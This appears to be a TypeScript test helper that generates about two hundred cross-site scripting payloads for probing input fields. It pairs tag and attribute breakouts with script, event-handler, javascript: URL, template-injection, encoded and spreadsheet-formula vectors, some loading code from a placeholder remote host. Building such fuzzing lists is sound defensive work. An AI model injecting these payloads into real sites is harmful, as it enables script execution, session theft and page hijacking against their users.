/** What the payloads call; a page in which it runs was broken into. */
export const RUNS = 'xss()'

/** Ends whatever a text may stand in: an attribute, a title, a comment, a field. */
const BREAKS = ['', '">', "'>", '-->', ']]>', '</p>', '</title>', '</script>', '</textarea>']

const VECTORS = [
  `<script>${RUNS}</script>`,
  `<script src=//x.example></script>`,
  `<img src=x onerror=${RUNS}>`,
  `<img src onerror="${RUNS}">`,
  `<svg onload=${RUNS}>`,
  `<svg/onload=${RUNS}//`,
  `<svg><script>${RUNS}</script>`,
  `<svg><animate onbegin=${RUNS}>`,
  `<body onload=${RUNS}>`,
  `<iframe src=javascript:${RUNS}>`,
  `<iframe onload=${RUNS}>`,
  `<iframe srcdoc="<script>parent.${RUNS}</script>">`,
  `<object data=javascript:${RUNS}>`,
  `<embed src=javascript:${RUNS}>`,
  `<video src=x onerror=${RUNS}>`,
  `<audio src=x onerror=${RUNS}>`,
  `<details open ontoggle=${RUNS}>`,
  `<input autofocus onfocus=${RUNS}>`,
  `<a href=javascript:${RUNS}>x</a>`,
  `<math><a xlink:href=javascript:${RUNS}>x`,
  `<form action=javascript:${RUNS}><button>x`,
  `<style onload=${RUNS}></style>`,
  `<link rel=stylesheet href=//x.example>`,
  `<base href=//x.example/>`,
  `<meta http-equiv=refresh content=0;//x.example>`,
]

/** Not HTML: what a template, an attribute, an address or a spreadsheet would run. */
const OTHERS = [
  `javascript:${RUNS}`,
  `JaVaScRiPt:${RUNS}`,
  `data:text/html,<script>${RUNS}</script>`,
  `{{${RUNS}}}`,
  `{{constructor.constructor('${RUNS}')()}}`,
  `\${${RUNS}}`,
  `<%= ${RUNS} %>`,
  `" onmouseover=${RUNS} x="`,
  `' autofocus onfocus=${RUNS} x='`,
  `x" onerror=${RUNS} src="x`,
  `&lt;script&gt;${RUNS}&lt;/script&gt;`,
  `&#60;img src=x onerror=${RUNS}&#62;`,
  `\\u003cimg src=x onerror=${RUNS}\\u003e`,
  `%3Cimg%20src=x%20onerror=${RUNS}%3E`,
  `';${RUNS}//`,
  `";${RUNS}//`,
  `\`;${RUNS}//`,
  `=HYPERLINK("javascript:${RUNS}")`,
]

/** A first name holds so many characters, and the payload's tag. */
const LONGEST = 56

/** Two hundred, each short enough for the shortest free field. */
export const PAYLOADS: readonly string[] = [
  ...OTHERS,
  ...BREAKS.flatMap((end) => VECTORS.map((vector) => end + vector)),
]
  .filter((payload) => payload.length <= LONGEST)
  .slice(0, 200)

/** The payload of that rank for a field, whose tag proves on screen that it is this field that is shown. */
export function payload(tag: string, rank: number): string {
  return `${tag}:${PAYLOADS[rank]}`
}
